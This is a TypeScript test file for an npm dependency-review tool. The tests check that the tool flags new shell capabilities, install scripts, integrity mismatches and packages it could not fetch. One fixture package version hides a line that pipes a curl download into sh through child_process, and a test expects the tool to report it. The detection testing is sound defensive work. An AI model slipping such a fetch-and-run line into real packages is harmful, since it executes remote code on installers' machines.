import { describe, expect, it } from "vitest";
import { memoryAnalysisStore, memoryFindingsCache } from "../../src/analysis/caches.js";
import { createVersionAnalyzer } from "../../src/analysis/version-analyzer.js";
import { DEFAULT_REGISTRY_HOSTS } from "../../src/lockfile/diff.js";
import { reviewChanges } from "../../src/review/review.js";
import { fakeRegistry, memorySource, packument, sri } from "../support/packages.js";
import { makeTarball } from "../support/tarballs.js";

const manifest = (name: string, version: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name, version, ...extra }, null, 2);

/** The tarballs the fake registry serves, by name@version. */
const TARBALLS: Record<string, Buffer> = {
  "widget@1.0.0": makeTarball({ "package.json": manifest("widget", "1.0.0"), "index.js": "module.exports = (a) => a + 1;\n" }),
  "widget@1.1.0": makeTarball({
    "package.json": manifest("widget", "1.1.0"),
    "index.js": "module.exports = (a) => a + 1;\nrequire('child_process').exec('curl https://example.com | sh');\n",
  }),
  "helper@2.0.0": makeTarball({
    "package.json": manifest("helper", "2.0.0", { scripts: { postinstall: "node install.js" } }),
    "install.js": "console.log('set up');\n",
  }),
  "tampered@1.0.0": makeTarball({ "package.json": manifest("tampered", "1.0.0"), "index.js": "module.exports = 1;\n" }),
};

function lock(packages: Record<string, { version: string; integrity?: string; dev?: boolean }>): string {
  const entries = Object.fromEntries(
    Object.entries(packages).map(([name, entry]) => [
      `node_modules/${name}`,
      { resolved: `https://registry.npmjs.org/${name}/-/${name}-${entry.version}.tgz`, integrity: entry.integrity ?? sri(TARBALLS[`${name}@${entry.version}`]!), ...entry },
    ]),
  );
  return JSON.stringify({ name: "app", lockfileVersion: 3, requires: true, packages: { "": { name: "app" }, ...entries } }, null, 2);
}

function setup() {
  const registry = fakeRegistry(
    [packument("widget", { "1.0.0": {}, "1.1.0": {} }), packument("helper", { "2.0.0": {} }), packument("tampered", { "1.0.0": {} })],
    [],
    TARBALLS,
  );
  const analyzer = createVersionAnalyzer({ registry, store: memoryAnalysisStore(), findings: memoryFindingsCache() });
  return { registry, analyzer, deps: { registry, registryHosts: DEFAULT_REGISTRY_HOSTS, analyzer } };
}

describe("the review reads the code of new versions", () => {
  it("reports new capabilities of an update, install scripts of an added package, and a tarball that is not the lockfile's", async () => {
    const { deps } = setup();
    const source = memorySource(
      { "package-lock.json": lock({ widget: { version: "1.0.0" } }) },
      {
        "package-lock.json": lock({
          widget: { version: "1.1.0" },
          helper: { version: "2.0.0", dev: true },
          tampered: { version: "1.0.0", integrity: `sha512-${Buffer.alloc(64, 1).toString("base64")}` },
        }),
      },
    );
    const review = await reviewChanges(source, deps);
    const alerts = review.alerts.map((alert) => [alert.rule, alert.package.name, alert.severity, alert.capability ?? null, alert.devOnly ?? false]);
    expect(alerts).toEqual(
      expect.arrayContaining([
        ["new-capability", "widget", "high", "shell", false],
        ["install-script", "helper", "medium", null, true],
        ["integrity-mismatch", "tampered", "critical", null, false],
      ]),
    );
    const shell = review.alerts.find((alert) => alert.rule === "new-capability")!;
    expect(shell).toMatchObject({
      package: { name: "widget", version: "1.1.0", previous: "1.0.0" },
      location: { path: "package-lock.json", line: expect.any(Number) },
      evidence: [{ file: "index.js", line: 2, column: 0, snippet: "require('child_process').exec('curl https://example.com | sh');" }],
    });
    expect(review.code).toEqual([
      { name: "helper", version: "2.0.0", capabilities: [{ name: "install-script", new: false, count: 1 }], removed: [] },
      { name: "widget", version: "1.1.0", previous: "1.0.0", capabilities: [{ name: "shell", new: true, count: 1 }], removed: [] },
    ]);
    expect(review.unreviewed).toEqual([]);
  });

  it("names a version whose code could not be fetched, and still reviews the rest", async () => {
    const { deps } = setup();
    const source = memorySource({}, { "package-lock.json": lock({ widget: { version: "1.0.0" }, ghost: { version: "9.9.9", integrity: "sha512-AAAA" } }) });
    const review = await reviewChanges(source, deps);
    expect(review.unreviewed).toEqual([
      { subject: "ghost@9.9.9", reason: "code not analysed: ghost@9.9.9 is not on the registry", location: expect.objectContaining({ path: "package-lock.json" }) },
    ]);
    expect(review.code?.map((summary) => summary.name)).toEqual(["widget"]);
  });

  it("analyses a version once, however many reviews ask", async () => {
    const { deps, registry } = setup();
    const source = memorySource({}, { "package-lock.json": lock({ widget: { version: "1.1.0" } }) });
    await reviewChanges(source, deps);
    await reviewChanges(source, deps);
    expect(registry.fetched).toEqual(["widget@1.1.0"]);
  });
});
